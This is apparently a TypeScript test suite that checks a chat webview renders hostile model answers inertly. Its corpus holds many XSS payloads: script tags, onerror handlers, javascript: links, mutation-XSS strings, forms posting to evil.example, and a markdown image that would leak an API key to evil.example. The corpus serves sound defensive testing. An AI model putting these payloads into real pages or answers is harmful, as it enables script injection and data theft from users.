// Model output is untrusted: a corpus of hostile answers, streamed and finished, must cause no network request,
// no script execution and no CSP violation, and nothing active may reach the DOM.
import { describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { type Harness, useHarness, emptySnapshot } from './harness';
import { assistantTurn, chunks, delta, meta, turnAdded } from './fixtures';

// Every payload that could run sets the canary (or opens a dialog); every one that could load hits a remote host.
const RUN = 'window.__canary=1';
export const HOSTILE_CORPUS: Record<string, string> = {
  scriptTag: `Hello <script>${RUN}</script> there\n\n<script src="https://evil.example/x.js"></script>`,
  eventHandlers: `<img src=x onerror="${RUN}"> <div onmouseover="${RUN}">hover</div> <body onload="${RUN}">\n\n<svg onload="${RUN}"></svg>`,
  javascriptLinks: `[click](javascript:${RUN}) [spaced](  javascript:alert(1)) [upper](JAVASCRIPT:alert(1)) [entity](&#106;avascript:alert(1)) <a href="javascript:${RUN}">raw</a> [vb](vbscript:msgbox(1)) [file](file:///etc/passwd)`,
  images: `<img src="https://evil.example/pixel.png"> <img srcset="https://evil.example/a.png 1x, https://evil.example/b.png 2x"> <picture><source srcset="https://evil.example/p.webp"><img src="https://evil.example/p.png"></picture> <video poster="https://evil.example/poster.jpg" src="https://evil.example/v.mp4"></video> <audio src="https://evil.example/a.mp3" autoplay></audio> <input type="image" src="https://evil.example/i.png">`,
  cssUrl: `<div style="background:url(https://evil.example/bg.png)">styled</div> <style>body{background:url("https://evil.example/css.png")} @import url("https://evil.example/i.css");</style> <link rel="stylesheet" href="https://evil.example/l.css"> <span style="behavior:url(x.htc)">x</span>`,
  svg: `<svg><script>${RUN}</script><image href="https://evil.example/svg.png"/><a xlink:href="javascript:${RUN}"><text>t</text></a><use href="https://evil.example/sprite.svg#a"/></svg>\n\n<math><mtext><table><mglyph><style><img src=x onerror="${RUN}">`,
  metaRefresh: `<meta http-equiv="refresh" content="0;url=https://evil.example/"> <meta http-equiv="Content-Security-Policy" content="default-src *">`,
  base: `<base href="https://evil.example/"> [relative](/steal) ![rel](/img.png)`,
  forms: `<form action="https://evil.example/collect" method="post"><input name="k" value="secret"><button>Send</button></form> <button formaction="https://evil.example/f">x</button>`,
  iframes: `<iframe src="https://evil.example/frame"></iframe> <iframe srcdoc="<script>parent.__canary=1</script>"></iframe> <object data="https://evil.example/o.swf"></object> <embed src="https://evil.example/e.swf"> <frameset><frame src="https://evil.example/f"></frameset>`,
  markdownImages: `![secret](https://evil.example/log?key=sk-live-SECRET123&file=main.ts) ![data](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIj48L3N2Zz4=) ![ref][r]\n\n[r]: https://evil.example/ref.png?token=abc`,
  autolinks: `<data:text/html,<script>${RUN}</script>> <javascript:alert(1)> <https://ok.example/page> www.evil.example/auto https://evil.example/bare`,
  entities: `&lt;script&gt;${RUN}&lt;/script&gt; &#60;img src=x onerror=${RUN}&#62; &amp;lt;b&amp;gt; \`<script>${RUN}</script>\` <scr<script>ipt>${RUN}</script>`,
  codeFences: "```html\n<script>" + RUN + "</script>\n<img src=https://evil.example/code.png onerror=" + RUN + ">\n```\n\n```\"><img src=x onerror=" + RUN + ">\nlanguage injection\n```",
  linkTitles: `[t](https://ok.example "a\\" onmouseover=\\"${RUN}") [u](https://ok.example/"onmouseover="${RUN})`,
  mixed: `Before\n\n<details open ontoggle="${RUN}"><summary>s</summary></details>\n\n<template><script>${RUN}</script></template>\n\n<noscript><img src=x onerror=${RUN}></noscript>\n\nAfter`,
};

const FORBIDDEN_ELEMENTS = 'script, style, iframe, frame, object, embed, img, picture, source, video, audio, svg, math, form, input, button:not([data-action]), meta, base, link, template, noscript, details:not(.thinking):not(.code-context)';

describe('chat webview: hostile answers', () => {
  const harness = useHarness();

  async function assertInert(chat: Awaited<ReturnType<Harness['open']>>, label: string): Promise<void> {
    // Runs in the page (this tsconfig has no DOM lib, hence a string).
    const found = await chat.page.evaluate(`(() => {
      const answers = Array.from(document.querySelectorAll('.turn[data-role="assistant"] .answer'));
      const forbidden = answers.flatMap((el) => Array.from(el.querySelectorAll(${JSON.stringify(FORBIDDEN_ELEMENTS)})).map((n) => n.outerHTML.slice(0, 120)));
      const risky = ['style', 'src', 'srcset', 'poster', 'action', 'formaction', 'xlink:href', 'srcdoc', 'background'];
      const attributes = answers.flatMap((el) => Array.from(el.querySelectorAll('*')).flatMap((n) => Array.from(n.attributes)
        .filter((a) => /^on/i.test(a.name) || risky.includes(a.name.toLowerCase()) || (a.name === 'href' && !/^(https?|mailto):/i.test(a.value)))
        .map((a) => n.tagName + '[' + a.name + '=' + a.value + ']')));
      return { forbidden, attributes };
    })()`) as { forbidden: string[]; attributes: string[] };
    assert.deepEqual(found.forbidden, [], `${label}: no active elements`);
    assert.deepEqual(found.attributes, [], `${label}: no handlers, inline styles, sources or unsafe hrefs`);
    await chat.frames(3);
    assert.equal(await chat.canary(), 0, `${label}: no script ran`);
    assert.deepEqual(chat.dialogs, [], `${label}: no dialogs`);
    assert.deepEqual(await chat.violations(), [], `${label}: no CSP violations`);
    assert.deepEqual(chat.requests.filter((url) => !harness.isOwnRequest(url)), [], `${label}: no requests but the page's own`);
    assert.deepEqual(chat.pageErrors, [], `${label}: no page errors`);
  }

  test('the corpus streamed in small deltas is inert while streaming and when finished', async () => {
    const chat = await harness.open();
    let n = 0;
    for (const [name, payload] of Object.entries(HOSTILE_CORPUS)) {
      const turnId = `h${n++}`;
      await chat.send(turnAdded(turnId, name));
      const parts = chunks(payload, n, 6);
      for (let i = 0; i < parts.length; i++) {
        await chat.send(delta(turnId, parts[i]!));
        if (i % 4 === 0) await chat.frames(1);
        if (i === Math.floor(parts.length / 2)) await assertInert(chat, `${name} (mid-stream)`);
      }
      await chat.frames();
      await assertInert(chat, `${name} (streamed)`);
      await chat.send({ type: 'turnEnded', turnId, status: 'done', meta: meta() });
      await assertInert(chat, `${name} (finished)`);
    }
    // The raw HTML is visible as text, so the user sees what the model tried.
    assert.match((await chat.page.locator('.turn[data-turn-id="h0"] .answer').textContent()) ?? '', /<script>window\.__canary=1<\/script>/);
    assert.deepEqual(harness.unexpected, []);
    await chat.close();
  });

  test('the corpus as finished turns in a snapshot is inert, and hovering/clicking it does nothing', async () => {
    const turns = Object.entries(HOSTILE_CORPUS).map(([name, text]) => assistantTurn(name, text, { status: 'done' }));
    const chat = await harness.open(emptySnapshot({ turns }));
    await chat.send({ type: 'snapshot', snapshot: emptySnapshot({ turns }) });
    await assertInert(chat, 'snapshot');
    for (const el of await chat.page.locator('.answer a, .answer div, .answer span').all()) {
      await el.hover({ force: true, timeout: 2000 }).catch(() => undefined);
      await el.click({ force: true, timeout: 2000 }).catch(() => undefined);
    }
    await assertInert(chat, 'after clicks');
    assert.equal(new URL(chat.page.url()).pathname, '/', 'the page never navigated');
    // Only web links were posted to the host, never javascript:/data:/file: ones.
    const opened = (await chat.posted()).filter((m) => m.type === 'openLink').map((m) => (m as { href: string }).href);
    assert.ok(opened.length > 0, 'web links do post openLink');
    for (const href of opened) assert.match(href, /^https?:/);
    await chat.close();
  });

  test('Markdown images never load: the full URL is shown, and only a click asks the host to open it', async () => {
    const chat = await harness.open();
    await chat.send(turnAdded('t1'));
    await chat.send(delta('t1', HOSTILE_CORPUS.markdownImages!));
    await chat.send({ type: 'turnEnded', turnId: 't1', status: 'done' });
    const placeholders = chat.page.locator('.turn[data-turn-id="t1"] .image-placeholder');
    assert.equal(await placeholders.count(), 3);
    assert.equal(await placeholders.nth(0).locator('.image-url').textContent(), 'https://evil.example/log?key=sk-live-SECRET123&file=main.ts');
    assert.equal(await placeholders.nth(1).locator('.image-url').count(), 0, 'data: images are not shown and offer nothing to load');
    assert.equal(await placeholders.nth(1).locator('button').count(), 0);
    assert.equal(await placeholders.nth(2).locator('.image-url').textContent(), 'https://evil.example/ref.png?token=abc');
    await chat.clearPosted();
    await placeholders.nth(0).getByRole('button').click();
    assert.deepEqual(await chat.posted(), [{ type: 'openLink', href: 'https://evil.example/log?key=sk-live-SECRET123&file=main.ts' }]);
    await assertInert(chat, 'images');
    await chat.close();
  });
});
